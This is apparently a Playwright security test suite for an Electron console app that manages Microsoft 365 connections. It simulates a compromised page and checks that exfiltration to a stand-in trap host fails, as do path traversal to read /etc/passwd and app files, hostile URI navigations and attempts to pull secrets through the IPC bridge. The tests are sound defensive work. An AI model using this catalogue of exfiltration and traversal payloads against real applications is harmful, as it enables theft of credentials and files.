import type { Page } from 'playwright/test';
import { demoConnection } from '../../src-main/demo-tenant';
import { channels } from '../../src-main/contract/channels';
import { applyDraft, call, draft } from '../fixtures/calls';
import { expect, globalCloudAt, test, type RunningConsole } from '../fixtures/console';
import { attackerHost, attackersToken, startAttacker } from '../fixtures/attacker';
import { catchOutsideActs } from '../fixtures/outside-world';
import { connect } from '../fixtures/network-calls';
import { watchNavigation } from '../fixtures/navigation';
import { disguises } from '../fixtures/secret-search';
import { startTrap, type Trap } from '../fixtures/trap';

/**
 * What becomes possible once somebody else's script runs in the page. Playwright's `evaluate` is such
 * a script: it is there already, whatever the Content Security Policy says about getting in.
 */

const host = 'trap.example';

/** Names of the trap lead to it, so that only what guards the page can keep the page away. */
function rules(served: { port: number }, trap: Trap): string {
  return `MAP ${host} 127.0.0.1:${trap.port},${globalCloudAt(served.port)}`;
}

/** Everything that can make a page contact a host. Answers what did not simply fail. */
function tryEveryWayOut(page: Page, port: number): Promise<string[]> {
  return page.evaluate(async (at) => {
    const succeeded: string[] = [];
    const origins = [`http://127.0.0.1:${at}`, 'https://trap.example', 'http://trap.example'];
    const settled = (name: string, work: () => Promise<unknown>) =>
      Promise.race([
        work().then(
          () => succeeded.push(name),
          () => undefined,
        ),
        // Some ways never say that they failed.
        new Promise((done) => setTimeout(done, 2000)),
      ]).catch(() => undefined);
    const attempt = (name: string, work: () => unknown) =>
      settled(name, () => Promise.resolve().then(work));
    const loaded = (element: HTMLElement) =>
      new Promise((done, failed) => {
        element.addEventListener('load', done);
        element.addEventListener('error', failed);
        document.body.append(element);
      });
    const make = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      return element;
    };
    const ways = origins.flatMap((origin) => [
      attempt(`fetch ${origin}`, () => fetch(`${origin}/fetch`, { mode: 'no-cors' })),
      attempt(
        `XMLHttpRequest ${origin}`,
        () =>
          new Promise((done, failed) => {
            const request = new XMLHttpRequest();
            request.onload = done;
            request.onerror = failed;
            request.open('POST', `${origin}/xhr`);
            request.send('stolen');
          }),
      ),
      attempt(
        `WebSocket ${origin}`,
        () =>
          new Promise((done, failed) => {
            const socket = new WebSocket(origin.replace('http', 'ws'));
            socket.onopen = done;
            socket.onerror = failed;
          }),
      ),
      attempt(
        `EventSource ${origin}`,
        () =>
          new Promise((done, failed) => {
            const source = new EventSource(`${origin}/events`);
            source.onopen = done;
            source.onerror = failed;
          }),
      ),
      attempt(`beacon ${origin}`, () => {
        navigator.sendBeacon(`${origin}/beacon`, 'stolen');
        return Promise.reject(new Error('says nothing'));
      }),
      attempt(`image ${origin}`, () => loaded(make('img', { src: `${origin}/image.png` }))),
      attempt(`video ${origin}`, () => loaded(make('video', { src: `${origin}/v.mp4` }))),
      attempt(`object ${origin}`, () => loaded(make('object', { data: `${origin}/object` }))),
      attempt(`embed ${origin}`, () => loaded(make('embed', { src: `${origin}/embed` }))),
      attempt(`stylesheet ${origin}`, () =>
        loaded(make('link', { rel: 'stylesheet', href: `${origin}/style.css` })),
      ),
      ...[
        'preconnect',
        'dns-prefetch',
        'prefetch',
        'preload',
        'modulepreload',
        'prerender',
        'icon',
        'manifest',
      ].map((rel) =>
        attempt(`${rel} ${origin}`, () =>
          loaded(make('link', { rel, href: `${origin}/${rel}`, as: 'script' })),
        ),
      ),
      attempt(`font ${origin}`, () => new FontFace('stolen', `url(${origin}/font.woff2)`).load()),
      attempt(`background ${origin}`, () => {
        document.body.style.backgroundImage = `url(${origin}/background.png)`;
        return Promise.reject(new Error('says nothing'));
      }),
      attempt(`import ${origin}`, () => import(/* @vite-ignore */ `${origin}/module.js`)),
      attempt(`script ${origin}`, () => loaded(make('script', { src: `${origin}/script.js` }))),
      attempt(`form ${origin}`, () => {
        const form = make('form', { action: `${origin}/form`, method: 'post' }) as HTMLFormElement;
        document.body.append(form);
        form.submit();
        return Promise.reject(new Error('says nothing'));
      }),
      attempt(`ping ${origin}`, () => {
        const link = make('a', { href: '#', ping: `${origin}/ping` });
        document.body.append(link);
        link.click();
        return Promise.reject(new Error('says nothing'));
      }),
      attempt(`WebTransport ${origin}`, () => new WebTransport(`${origin}/`).ready),
      attempt(`worker ${origin}`, () => {
        const worker = new Worker(`${origin}/worker.js`);
        return new Promise((done, failed) => {
          worker.onmessage = done;
          worker.onerror = failed;
        });
      }),
    ]);
    const rtc = attempt('WebRTC', async () => {
      const urls = [`stun:127.0.0.1:${at}`, `turn:127.0.0.1:${at}?transport=tcp`];
      const connection = new RTCPeerConnection({
        iceServers: urls.map((url) => ({ urls: url, username: 'a', credential: 'b' })),
      });
      connection.createDataChannel('stolen');
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((_done, failed) => {
        connection.onicegatheringstatechange = () => {
          if (connection.iceGatheringState === 'complete') failed(new Error('nothing found'));
        };
      });
    });
    await Promise.all([...ways, rtc]);
    return succeeded;
  }, port);
}

/** What anything that main answered looks like when it holds a secret or a token. */
function findCredentials(text: string): string[] {
  const bytes = Buffer.from(text, 'utf8');
  const found = Object.entries(disguises(demoConnection.clientSecret))
    .filter(([, disguise]) => bytes.includes(disguise))
    .map(([name]) => name);
  return /eyJ[\w-]{10,}/.test(text) ? [...found, 'a token'] : found;
}

async function compromised(
  start: (options: { hostRules: string }) => Promise<RunningConsole>,
  served: { port: number },
  trap: Trap,
): Promise<RunningConsole> {
  const running = await start({ hostRules: rules(served, trap) });
  expect(await applyDraft(running.page)).toMatchObject({ ok: true });
  return running;
}

test('a compromised page reaches no other host, whatever it tries', async ({ start, served }) => {
  test.slow();
  const trap = await startTrap();
  try {
    const { app, page } = await compromised(start, served, trap);
    // The trap works: a session without our guards does reach it, by address and by name.
    await app.evaluate(async ({ session }, port) => {
      const free = session.fromPartition('unguarded');
      await free.fetch(`http://127.0.0.1:${port}/control`);
      await free.fetch(`http://trap.example/control`).catch(() => undefined);
    }, trap.port);
    expect(trap.contacts.filter((line) => line.startsWith('GET /control'))).not.toEqual([]);
    trap.contacts.length = 0;

    expect(await tryEveryWayOut(page, trap.port), 'ways that led somewhere').toEqual([]);
    expect(trap.contacts).toEqual([]);
    expect(page.url()).toMatch(/^app:\/\/console\/index\.html#?$/);
    expect(await call(page, 'app.info', {}), 'the page is still ours').toMatchObject({ ok: true });
  } finally {
    await trap.close();
  }
});

test('a compromised page can open no window, frame, worker or other address', async ({
  start,
  served,
}) => {
  const trap = await startTrap();
  try {
    const { app, page } = await compromised(start, served, trap);
    const outcome = await page.evaluate(async () => {
      const opened = [
        'https://trap.example/',
        'about:blank',
        'app://console/index.html',
        'file:///etc/passwd',
        'javascript:alert(1)',
      ].map((url) => window.open(url) !== null);
      for (const src of [
        'https://trap.example/',
        'file:///etc/passwd',
        'data:text/html,x',
        'app://console/index.html',
        'about:srcdoc',
      ]) {
        const frame = document.createElement('iframe');
        frame.setAttribute('src', src);
        document.body.append(frame);
      }
      const refused = async (work: () => unknown) => {
        try {
          await work();
          return 'allowed';
        } catch {
          return 'refused';
        }
      };
      const workerRuns = (make: () => Worker) =>
        refused(
          () =>
            new Promise((done, failed) => {
              const worker = make();
              worker.onmessage = done;
              worker.onerror = failed;
            }),
        );
      const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
      const workers = {
        service: await refused(() => navigator.serviceWorker.register('/assets/any.js')),
        blob: await workerRuns(() => new Worker(blob)),
        data: await workerRuns(() => new Worker('data:text/javascript,postMessage(1)')),
      };
      const frames = Array.from(document.querySelectorAll('iframe')).map((frame) => {
        try {
          return frame.contentWindow?.location.href ?? 'none';
        } catch {
          return 'foreign';
        }
      });
      return {
        opened,
        workers,
        bridges: Array.from(document.querySelectorAll('iframe')).filter((frame) => {
          try {
            return frame.contentWindow !== null && 'helpmaster' in frame.contentWindow;
          } catch {
            return false;
          }
        }).length,
        frames,
      };
    });
    expect(outcome.opened).toEqual([false, false, false, false, false]);
    expect(outcome.workers).toEqual({ service: 'refused', blob: 'refused', data: 'refused' });
    expect(outcome.bridges, 'frames with a bridge of their own').toBe(0);
    expect(outcome.frames.filter((address) => /passwd|trap|index/.test(address))).toEqual([]);
    const { seen, settled } = await watchNavigation(app);
    const goTo = (address: string) =>
      page.evaluate((to) => {
        location.href = to;
      }, address);
    for (const address of [
      'https://trap.example/',
      'file:///etc/passwd',
      'app://elsewhere/index.html',
      'data:text/html,x',
      'blob:app://console/x',
      'javascript:document.body.remove()',
      'mailto:somebody@trap.example',
      'ms-msdt:/id PCWDiagnostic',
    ]) {
      await goTo(address);
      await settled(goTo);
      expect(page.url()).toBe('app://console/index.html');
    }
    expect(await seen()).toMatchObject({ arrived: [], created: 0 });
    expect((await seen()).asked).toContain('https://trap.example/');
    // Not by a locator, which would wait for the navigations to end.
    const heading = await page.evaluate(() => document.querySelector('h1')?.textContent);
    expect(heading).toBe('API Integrations');
    const windows = await app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map(({ webContents }) => webContents.getURL()),
    );
    expect(windows).toEqual(['app://console/index.html']);
    expect(trap.contacts).toEqual([]);
  } finally {
    await trap.close();
  }
});

test('a compromised page reads no file of this computer', async ({ start, served, profile }) => {
  const trap = await startTrap();
  try {
    const { page } = await compromised(start, served, trap);
    const addresses = [
      'file:///etc/passwd',
      `file://${profile}/settings.json`,
      'app://console/../main/index.cjs',
      'app://console/%2e%2e/main/index.cjs',
      'app://console/..%2f..%2fpackage.json',
      'app://console/..%5c..%5cpackage.json',
      'app://console/.%2e/%2e%2e/package.json',
      'app://console//etc/passwd',
      'app://console/assets/../../main/index.cjs',
      'app://console/package.json%00.png',
      'app://main/index.cjs',
      'app:///etc/passwd',
      'devtools://devtools/bundled/inspector.html',
      'chrome://version',
      'view-source:file:///etc/passwd',
    ];
    const read = await page.evaluate(async (all) => {
      const contents: string[] = [];
      const found = (text: string | null | undefined) => {
        if (text && /root:|schemaVersion|require\(|helpmaster-m365|dependencies/.test(text)) {
          contents.push(text.slice(0, 80));
        }
      };
      await Promise.all(
        all.flatMap((address) => [
          fetch(address)
            .then((answer) => answer.text())
            .then(found, () => undefined),
          new Promise<void>((done) => {
            const request = new XMLHttpRequest();
            request.onloadend = () => {
              found(request.responseText);
              done();
            };
            try {
              request.open('GET', address);
              request.send();
            } catch {
              done();
            }
          }),
          new Promise<void>((done) => {
            const frame = document.createElement('iframe');
            frame.onload = () => {
              try {
                found(frame.contentDocument?.documentElement.textContent);
              } catch {
                // Of another origin: not readable.
              }
              done();
            };
            frame.setAttribute('src', address);
            document.body.append(frame);
            setTimeout(done, 1000);
          }),
        ]),
      );
      return contents;
    }, addresses);
    expect(read).toEqual([]);
  } finally {
    await trap.close();
  }
});

test('a compromised page gets neither secret nor token, and main sends them nowhere for it', async ({
  start,
  served,
  tenant,
}) => {
  test.slow();
  const trap = await startTrap();
  try {
    const { app, page } = await compromised(start, served, trap);
    await catchOutsideActs(app);
    const keep = { keep: true } as const;
    const elsewhere = { authority: `https://${host}`, graph: `https://${host}` };
    const toTrap = [
      draft({ clientSecret: keep, cloud: 'custom', customEndpoints: elsewhere }),
      draft({
        clientSecret: keep,
        cloud: 'custom',
        customEndpoints: { ...elsewhere, authority: 'https://login.microsoftonline.com' },
      }),
      draft({ clientSecret: keep, tenantId: host }),
      draft({ clientSecret: keep, clientId: '00000000-0000-4000-8000-000000000000' }),
      draft({ clientSecret: keep, cloud: 'china' }),
    ];
    tenant.log.clear();
    for (const connection of toTrap) {
      for (const [channel, input] of [
        ['connection.apply', connection],
        ['connection.test', connection],
        ['directory.search', { connection, text: 'a' }],
      ] as const) {
        expect(await call(page, channel, input)).toMatchObject({
          ok: false,
          problem: { code: 'secret-for-other-connection' },
        });
      }
    }
    expect(trap.contacts, 'contacts of the trap').toEqual([]);
    expect(tenant.log.entries, 'requests anywhere').toEqual([]);

    const answers = await page.evaluate(
      async ([names, good]) => {
        const heard: unknown[] = [];
        window.helpmaster.subscribe((event) => heard.push(event));
        const ask = (channel: string, input: unknown) =>
          window.helpmaster.invoke({ callId: crypto.randomUUID(), channel, input });
        const guesses = ['connection.getSecret', 'secret', 'token', 'settings.read', 'eval'];
        const inputs: unknown[] = [{}, good, { connection: good, text: 'a' }, { id: '*' }];
        const said = await Promise.all(
          [...names, ...guesses].flatMap((name) => inputs.map((input) => ask(name, input))),
        );
        const around = [
          ...Object.getOwnPropertyNames(window).filter((name) =>
            /token|secret|electron|ipc/i.test(name),
          ),
          JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]),
          document.cookie,
          document.documentElement.outerHTML,
          String(Object.values(window.helpmaster)),
        ];
        return JSON.stringify([said, heard, around]);
      },
      [Object.keys(channels), draft({ clientSecret: keep })] as const,
    );
    expect(answers).toContain('hasClientSecret');
    expect(findCredentials(answers)).toEqual([]);
  } finally {
    await trap.close();
  }
});

test('endpoints that a compromised page names get what it typed, and nothing that main holds', async ({
  start,
  served,
  tenant,
}) => {
  test.slow();
  const attacker = await startAttacker();
  try {
    const hostRules = `MAP ${attackerHost} 127.0.0.1:${attacker.port},${globalCloudAt(served.port)}`;
    const running = await start({ hostRules });
    const { app, page } = running;
    await catchOutsideActs(app);
    // Main now holds a secret, tokens, two accounts and the contents of a mailbox.
    const { accountId, messageId } = await connect(running, tenant);
    const preview = await call(page, 'accounts.preview', { id: accountId });
    const read = preview.ok ? preview.value.messages.map(({ subject }) => subject) : [];
    expect(read.length, 'messages that main has read').toBeGreaterThan(0);

    const typed = 'typed-by-the-attacker';
    const connection = draft({
      clientSecret: { set: typed },
      cloud: 'custom',
      customEndpoints: { authority: `https://${attackerHost}`, graph: `https://${attackerHost}` },
    });
    const mixed = draft({
      clientSecret: { set: typed },
      cloud: 'custom',
      customEndpoints: {
        authority: 'https://login.microsoftonline.com',
        graph: `https://${attackerHost}`,
      },
    });
    for (const each of [connection, mixed]) {
      await call(page, 'connection.test', each);
      await call(page, 'directory.search', { connection: each, text: 'a' });
    }
    // Once saved, the connection is the attacker's for everything that can be asked for.
    expect(await call(page, 'connection.apply', connection)).toMatchObject({ ok: true });
    for (const [channel, input] of [
      ['users.open', { text: '', show: 'all', sort: { column: 'displayName', descending: false } }],
      ['accounts.checkAccess', { ids: [accountId] }],
      ['accounts.preview', { id: accountId }],
      ['accounts.readMessage', { id: accountId, messageId }],
      ['accounts.folders', { id: accountId }],
    ] as const) {
      await call(page, channel, input);
    }

    const sent = attacker.requests.join('\n');
    expect(sent, 'the attacker did get something').toContain(typed);
    expect(sent).toContain(`Bearer ${attackersToken}`);
    expect(findCredentials(sent)).toEqual([]);
    const tokens = [...sent.matchAll(/^Bearer (.+)$/gim)].map(([, token]) => token);
    expect(new Set(tokens)).toEqual(new Set([attackersToken]));
    for (const subject of read) expect(sent).not.toContain(subject);
    // It only reads; nothing that main holds is in a body.
    const bodies = attacker.requests.filter((each) => !/^\S+ \S*\/token/.test(each));
    expect(bodies.filter((each) => !/^GET |^POST \S*\/\$batch/.test(each))).toEqual([]);
  } finally {
    await attacker.close();
  }
});

test('a compromised page can take hold of nothing but the three functions of the bridge', async ({
  start,
}) => {
  const { page } = await start();
  const outcome = await page.evaluate(() => {
    const bridge = window.helpmaster as unknown as Record<string, unknown>;
    const attempt = (change: () => void) => {
      try {
        change();
      } catch {
        // What matters is what is there afterwards.
      }
    };
    attempt(() => {
      bridge['invoke'] = () => 'replaced';
    });
    attempt(() => {
      bridge['more'] = 1;
    });
    attempt(() => {
      (window as unknown as Record<string, unknown>)['helpmaster'] = {};
    });
    attempt(() => {
      Object.setPrototypeOf(bridge, { polluted: true });
    });
    // The classic way from a function of the other world to its global object.
    let escaped = 'refused';
    for (const value of Object.values(bridge)) {
      attempt(() => {
        const make = (value as () => void).constructor as (code: string) => () => string;
        const run = make('return typeof process');
        escaped = run() === 'undefined' ? 'no Node' : 'Node';
      });
    }
    return {
      keys: Object.keys(bridge).sort(),
      own: Object.keys(window.helpmaster).sort(),
      polluted: 'polluted' in bridge,
      replaced: String(bridge['invoke']).includes('replaced'),
      escaped,
    };
  });
  expect(outcome).toMatchObject({
    keys: ['cancel', 'invoke', 'subscribe'],
    own: ['cancel', 'invoke', 'subscribe'],
    polluted: false,
    replaced: false,
  });
  expect(outcome.escaped).not.toBe('Node');
});
